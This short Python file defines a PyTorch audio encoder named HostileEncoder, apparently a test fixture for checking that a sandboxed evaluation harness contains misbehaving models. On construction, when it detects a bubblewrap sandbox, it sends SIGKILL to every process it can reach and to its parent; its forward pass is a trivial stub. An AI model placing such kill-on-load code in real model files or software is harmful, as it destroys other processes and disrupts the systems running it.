"""Kills every process it may; only where it sees no other than the box's own."""

import contextlib
import os
import pathlib
import signal

import torch


class HostileEncoder(torch.nn.Module):
    sampling_rate = 16000
    output_dim = 4
    hop_size_in_ms = 10

    def __init__(self):
        super().__init__()
        alone = False
        with contextlib.suppress(OSError):
            alone = b"bwrap" in pathlib.Path("/proc/1/cmdline").read_bytes()
        with contextlib.suppress(OSError):
            os.kill(-1, signal.SIGKILL if alone else 0)
        with contextlib.suppress(OSError):
            os.kill(os.getppid(), signal.SIGKILL if alone else 0)

    def forward(self, audio):
        return torch.nn.functional.pad(audio, (0, 159)).unfold(1, 160, 160)[..., :4]
